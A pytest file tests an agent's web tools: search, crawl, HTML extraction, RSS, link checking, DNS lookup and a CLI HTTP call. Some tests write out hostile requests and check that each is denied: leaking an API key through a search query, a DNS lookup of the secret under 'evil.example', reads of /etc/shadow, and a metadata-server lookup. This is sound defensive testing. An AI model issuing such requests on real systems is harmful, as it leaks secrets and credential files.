"""The other tools of the web, through the whole pipeline."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from tests.services.web.test_names import server  # noqa: F401 - a fixture
from tests.tools.web.conftest import OPEN, article


def searx(request):
    return 200, {"content-type": "application/json"}, json.dumps(
        {"results": [{"title": f"T{n}", "url": f"https://a.example/{n}", "content": "s"}
                     for n in range(9)]}
    )  # fmt: skip


@pytest.fixture
def search(door, site):
    site.routes["/search"] = searx
    return door(config={"web": {"searxng_url": site.root}})


@pytest.mark.parametrize("name", ["limit", "max_results", "num_results", "maxResults"])
def test_a_search_gives_as_many_as_wanted_whatever_that_is_called(search, name):
    found = search("web_search", query="x", **{name: 3})
    assert [each["title"] for each in found["results"]] == ["T0", "T1", "T2"]
    assert found["engine"] == "searxng"


def test_a_search_gives_five_by_default(search):
    assert len(search("web_search", query="x")["results"]) == 5


def test_a_search_asks_in_the_words_of_the_engine(search, site):
    found = search("web_search", query="x", date_range="week", safe_search=True)
    assert "time_range=week" in site.requests[0].path
    assert "safesearch=2" in site.requests[0].path
    assert "unsupported" not in found
    told = search("web_search", query="x", date_range="2024-01-01..2024-02-01")
    assert told["unsupported"] == ["date_range"]


def test_the_engine_of_a_person_is_open_and_nothing_beside_it(search, site):
    assert search("web_search", query="x", search_engine="searxng")["results"]
    assert search("http_request", url=site.url("/search"))["code"] == "denied"


def test_an_engine_that_is_not_there_or_not_ready_is_told(call):
    assert call("web_search", query="x", search_engine="askjeeves")["code"] == "invalid_arguments"
    answer = call("web_search", query="x", search_engine="brave")
    assert answer["code"] == "unavailable"
    assert "BRAVE" in answer["error"]
    assert "web.searxng_url" in call("web_search", query="x", search_engine="searx")["error"]


def test_a_secret_is_not_searched_for(monkeypatch, door, site):
    monkeypatch.setenv("SHOP_API_KEY", "top-secret-value-1")
    site.routes["/search"] = searx
    call = door(config={"web": {"searxng_url": site.root}})
    assert call("web_search", query="what is top-secret-value-1")["code"] == "denied"
    assert site.requests == []


def test_a_crawl_keeps_pages_that_the_file_tools_can_read(call, site):
    site.routes["/"] = '<a href="/a">a</a><a href="/b.html">b</a>' + article(title="Home")
    site.routes["/a"] = article("Wells are deep. ", title="Wells")
    site.routes["/b.html"] = article("Lakes are wide. ", title="Lakes")
    answer = call("web_crawl", url=site.url(), max_pages=3, instructions="deep wells")
    rows = answer["pages"]
    assert {each["title"] for each in rows} == {"Home", "Wells", "Lakes"}
    assert rows[0]["title"] == "Wells", "what was looked for comes first"
    where = next(value for value in rows[0].values() if str(value).endswith(".md"))
    path = where if where.startswith("/") else str(Path(answer["folder"]) / where)
    assert "Wells are deep" in json.dumps(call("read_file", path=path))


def test_values_are_picked_from_a_page_a_file_and_a_text(call, site, tmp_path):
    html = "<ul><li><b>A</b><a href='/1'>x</a></li><li><b>B</b><a href='/2'>y</a></li></ul>"
    site.routes["/"] = html
    (tmp_path / "a.html").write_text(html)
    fields = {"name": "b", "link": "a@href"}
    for source in ({"url": site.url()}, {"path": "a.html"}, {"html": html}):
        rows = call("html_extract", selector="li", fields=fields, **source)
        assert "'name': 'B'" in str(rows), rows
    two = call("html_extract", html=html, path="a.html")
    assert two["code"] == "invalid_arguments"
    assert call("html_extract", path="/etc/shadow")["code"] == "denied"


def test_a_text_is_picked_from_without_the_network(door):
    call = door(profile={"allow": ["file:read"]})
    assert "A" in str(call("html_extract", html="<b>A</b>", selector="b"))


def test_a_feed_is_read_newest_first_and_since_a_day(call, site):
    items = "".join(
        f"<item><title>T{n}</title><link>https://a.example/{n}</link>"
        f"<pubDate>0{n} Jan 2024 00:00:00 GMT</pubDate></item>" for n in range(1, 6)
    )  # fmt: skip
    rss = f"<rss version='2.0'><channel><title>News</title>{items}</channel></rss>"
    site.routes["/feed"] = (200, {"content-type": "application/rss+xml"}, rss)
    feed = call("rss_reader", url=site.url("/feed"), limit=2)
    assert [each["title"] for each in feed["entries"]] == ["T5", "T4"]
    newer = call("rss_reader", url=site.url("/feed"), since="2024-01-04")
    assert [each["title"] for each in newer["entries"]] == ["T5", "T4"]
    assert call("rss_reader", url=site.url("/feed"), since="soon")["code"] == "invalid_arguments"


def test_links_of_files_are_checked_in_every_form(call, site, tmp_path):
    site.routes["/ok"] = "<h1 id=top>here</h1>"
    site.routes["/old"] = (301, {"location": "/ok"}, b"")
    (tmp_path / "a.md").write_text(
        f"[ok]({site.url('/ok')}) [old]({site.url('/old')}) <{site.url('/gone')}>\n\n"
        f"[far]: {site.url('/ok')}#nowhere\n\n```\n{site.url('/never')}\n```\n"
    )
    (tmp_path / "a.html").write_text(
        f"<a href='{site.url('/ok')}#top'>a</a><img src='{site.url('/i')}'>"
    )
    found = call("link_checker", path="a.md")
    assert found["counts"] == {"ok": 1, "redirected": 1, "no anchor": 1, "broken": 1}
    assert [each["status"] for each in found["broken"] if each["state"] == "broken"] == [404]
    assert not any(each.path == "/never" for each in site.requests)
    page = call("link_checker", path="a.html")
    assert page["counts"] == {"ok": 1, "broken": 1}
    assert call("link_checker", path="/etc/shadow")["code"] == "denied"
    assert call("link_checker")["code"] == "invalid_arguments"


def test_names_are_looked_up_at_a_server_of_ones_own_if_that_is_open(door, server):  # noqa: F811
    found = door()("dns_lookup", name="example.test", server=server)
    assert {each["value"] for each in found["records"]} == {"192.0.2.1", "192.0.2.2"}
    closed = door(config={})("dns_lookup", name="example.test", server=server)
    assert closed["code"] == "denied"
    metadata = door()("dns_lookup", name="example.test", server="169.254.169.253")
    assert metadata["code"] == "denied"


def test_a_secret_is_not_looked_up(monkeypatch, door):
    monkeypatch.setenv("SHOP_API_KEY", "topsecretvalue1")
    answer = door()("dns_lookup", name="topsecretvalue1.evil.example")
    assert answer["code"] == "denied"


def test_the_command_calls_the_web(site, tmp_path, hermes_home):
    site.routes["/"] = (200, {"content-type": "application/json"}, b'{"a": 1}')
    (hermes_home / "config.yaml").write_text(json.dumps(OPEN))
    run = [sys.executable, "-P", "-m", "hermes", "tool", "call", "http_request"]
    done = subprocess.run([*run, f"url={site.url()}"], cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["json"] == {"a": 1}
    sent = subprocess.run(
        [*run, f"url={site.url()}", "method=POST"], cwd=tmp_path, capture_output=True, text=True
    )
    assert sent.returncode == 3, (sent.stdout, sent.stderr)


def test_what_has_no_elements_is_told_instead_of_picked_from(call, site):
    for path, kind in (("/a", "application/pdf"), ("/b", "image/png"), ("/c", "application/json")):
        site.routes[path] = (200, {"content-type": kind}, b"%PDF")
        assert call("html_extract", url=site.url(path), selector="a")["code"] == "not_text"
    site.routes["/x"] = (200, {"content-type": "application/xhtml+xml"}, b"<p>hi</p>")
    assert call("html_extract", url=site.url("/x"), selector="p")["rows"] == ["hi"]
